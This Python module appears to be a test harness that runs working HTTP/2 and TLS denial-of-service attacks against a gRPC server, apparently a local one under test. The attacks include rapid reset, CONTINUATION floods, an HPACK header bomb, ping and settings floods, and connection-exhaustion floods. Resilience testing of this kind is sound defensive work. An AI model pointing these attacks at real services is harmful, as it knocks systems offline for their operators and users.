"""Attacks on a gRPC port, each in a process of its own, at the full speed of one."""

from __future__ import annotations

import contextlib
import ctypes
import multiprocessing
import resource
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from multiprocessing.connection import Connection
from pathlib import Path

from . import http2
from .http2 import Address, Wire, frame

BATCH = 64  # frames written at once: enough to keep the peer busy, few enough to see it hang up
CONNECTIONS = 10_000
READY_S = 60.0
_SETTLED_S = 5.0
_CONNECT_S = 0.25  # who is not let in tries again, with a new first packet
SOURCE = "127.0.0.10"  # not that of the callers beside it
Say = Callable[[], None]  # counts one more act


@dataclass(frozen=True, slots=True)
class Target:
    """Where to: plain, or TLS where `ca` is given.

    Attributes:
        path: a method that takes calls.
        metadata: of each call.
        source: an address of this machine that the attacker comes from.
    """

    address: Address
    path: str
    ca: Path | None = None
    metadata: tuple[http2.Field, ...] = ()
    source: str = SOURCE

    def wire(self, *, reads: bool = True, connect_s: float = 10) -> Wire:
        """Connect."""
        tls = http2.trusting(self.ca) if self.ca else None
        return Wire(self.address, tls, reads=reads, source=self.source, connect_s=connect_s)

    @property
    def block(self) -> bytes:
        """The header block of a good call."""
        return http2.call(self.path, *self.metadata)


Attack = Callable[[Target, Say], None]


def _again(target: Target, say: Say, one: Callable[[Wire], Iterator[bytes]]) -> None:
    """Send what `one` yields, on a new connection whenever the peer has hung up, for ever."""
    while True:
        try:
            with target.wire(connect_s=_CONNECT_S) as wire:
                for data in one(wire):
                    say()
                    wire.send(data)
                    if wire.ended:
                        break
        except OSError:
            say()


def rapid_reset(target: Target, say: Say) -> None:
    """Calls that are taken back in the same breath (CVE-2023-44487)."""
    block = target.block

    def one(wire: Wire) -> Iterator[bytes]:
        wire.agreed()  # as a client would: limits hold only for who has confirmed them
        for first in range(1, http2.STREAM_ID_MAX - 2 * BATCH, 2 * BATCH):
            yield b"".join(
                frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                + frame(http2.RST_STREAM, 0, stream, http2.CANCEL)
                for stream in range(first, first + 2 * BATCH, 2)
            )

    _again(target, say, one)


def settings_flood(target: Target, say: Say) -> None:
    """Settings, each of which must be confirmed."""
    data = frame(http2.SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535)) * BATCH
    _again(target, say, lambda _: iter(lambda: data, b""))


def ping_flood(target: Target, say: Say) -> None:
    """Pings, each of which must be answered."""
    data = frame(http2.PING, 0, 0, b"x" * 8) * BATCH
    _again(target, say, lambda _: iter(lambda: data, b""))


def continuation_flood(target: Target, say: Say) -> None:
    """A header block that never ends (CVE-2024-27316 and its kin)."""
    more = frame(http2.CONTINUATION, 0, 1, http2.fields((b"x-more", b"y" * 1_000)) * 8)

    def one(_: Wire) -> Iterator[bytes]:
        yield frame(http2.HEADERS, 0, 1, target.block)
        while True:
            yield more

    _again(target, say, one)


def empty_continuations(target: Target, say: Say) -> None:
    """The same, of empty frames: no limit of bytes is ever reached."""
    more = frame(http2.CONTINUATION, 0, 1) * BATCH

    def one(_: Wire) -> Iterator[bytes]:
        yield frame(http2.HEADERS, 0, 1, target.block)
        while True:
            yield more

    _again(target, say, one)


def header_bomb(target: Target, say: Say) -> None:
    """One large field in the peer's table, named again and again by one byte each."""
    named = b"\xbe" * 16_000  # index 62, the newest entry, 4,000 bytes each time

    def one(_: Wire) -> Iterator[bytes]:
        bomb = http2.fields((b"x-bomb", b"y" * 4_000), indexed=True)
        for stream in range(1, http2.STREAM_ID_MAX, 2):
            block = target.block + (bomb if stream == 1 else b"") + named[:12_000]
            yield frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)

    _again(target, say, one)


def big_headers(target: Target, say: Say) -> None:
    """64 KiB of metadata in each call."""
    field = http2.fields((b"x-big", b"y" * 16_000))

    def one(_: Wire) -> Iterator[bytes]:
        for stream in range(1, http2.STREAM_ID_MAX, 2):
            parts = [frame(http2.HEADERS, http2.END_STREAM, stream, target.block)]
            parts += [frame(http2.CONTINUATION, 0, stream, field)] * 3
            parts += [frame(http2.CONTINUATION, http2.END_HEADERS, stream, field)]
            yield b"".join(parts)

    _again(target, say, one)


def data_without_headers(target: Target, say: Say) -> None:
    """Data and window updates of calls that nobody has made."""
    data = b"".join(
        frame(http2.DATA, 0, stream, b"z" * 100)
        + frame(http2.WINDOW_UPDATE, 0, stream, struct.pack("!I", 1))
        for stream in range(1, 2 * BATCH, 2)
    )
    _again(target, say, lambda _: iter(lambda: data, b""))


def half_handshakes(target: Target, say: Say) -> None:
    """TLS handshakes that stop in the middle, again whenever the peer gives one up."""
    hello = ssl.MemoryBIO()
    context = http2.trusting(target.ca) if target.ca else ssl.create_default_context()
    half = context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    _many_with(target, say, hello.read()[:-20], 500)


def one_byte_each(target: Target, say: Say) -> None:
    """10,000 connections that send one byte each and stay."""
    _many_with(target, say, b"P", CONNECTIONS)


def silent(target: Target, say: Say) -> None:
    """5,000 connections that have shaken hands and say nothing more."""
    hello = http2.PREFACE + frame(http2.SETTINGS, 0, 0)
    _many_with(target, say, hello, 5_000, tls=True)


def _many_with(target: Target, say: Say, data: bytes, count: int, *, tls: bool = False) -> None:
    """Hold `count` connections that sent `data`; one that is hung up on is made anew."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    count = min(count, most - 64)
    context = http2.trusting(target.ca) if tls and target.ca else None
    held: list[socket.socket] = []
    while True:
        if len(held) >= count:
            say()
            time.sleep(0.01)
            held, gone = _living(held)
            for each in gone:
                each.close()
            continue
        try:
            # One source address has 28,000 ports: spread over loopback, so that none is short.
            each = socket.create_connection(
                target.address,
                timeout=_CONNECT_S,
                source_address=(f"127.0.0.{2 + len(held) % 8}", 0),
            )
            if context is not None:
                each = context.wrap_socket(each, server_hostname="localhost")
            each.sendall(data)
            each.setblocking(False)
            held.append(each)
        except OSError:
            time.sleep(0.001)
        say()


def _living(held: list[socket.socket]) -> tuple[list[socket.socket], list[socket.socket]]:
    living, gone = [], []
    for each in held:
        try:
            ended = each.recv(1 << 12) == b""
        except (BlockingIOError, ssl.SSLWantReadError):
            ended = False
        except OSError:
            ended = True
        (gone if ended else living).append(each)
    return living, gone


ATTACKS: dict[str, Attack] = {
    each.__name__: each
    for each in (
        rapid_reset, settings_flood, ping_flood, continuation_flood, empty_continuations,
        header_bomb, big_headers, data_without_headers, half_handshakes, one_byte_each, silent,
    )
}  # fmt: skip


def _run(name: str, target: Target, pipe: Connection, acts: ctypes.c_ulonglong) -> None:
    told = False
    begun_s = time.monotonic()
    # Who is not let in never gets as many: that attack is under way, too.
    settled = {"one_byte_each": CONNECTIONS, "silent": 5_000, "half_handshakes": 500}.get(name, 20)

    def say() -> None:
        nonlocal told
        acts.value += 1
        if not told and (acts.value >= settled or time.monotonic() > begun_s + _SETTLED_S):
            told = True
            pipe.send("under way")

    ATTACKS[name](target, say)


class Acts:
    """How much was done; known at the end of the attack."""

    count = 0


@contextmanager
def under(name: str, target: Target) -> Iterator[Acts]:
    """Be attacked while inside; the attack is under way when this begins.

    At the end the attacker is killed: told to stop, it would first wait for a peer that reads
    nothing from it any more.

    Raises:
        TimeoutError: the attacker does not get under way.
        RuntimeError: it ended by itself.
    """
    context = multiprocessing.get_context("spawn")
    ours, theirs = context.Pipe(duplex=False)
    count = context.RawValue(ctypes.c_ulonglong)
    process = context.Process(target=_run, args=(name, target, theirs, count), daemon=True)
    process.start()
    theirs.close()
    acts = Acts()
    try:
        if not ours.poll(READY_S):
            raise TimeoutError(f"{name} did not get under way in {READY_S:g} s")
        ours.recv()
        yield acts
        if not process.is_alive():
            raise RuntimeError(f"{name} ended by itself: {process.exitcode}")
    finally:
        process.kill()
        process.join()
        ours.close()
        acts.count = count.value
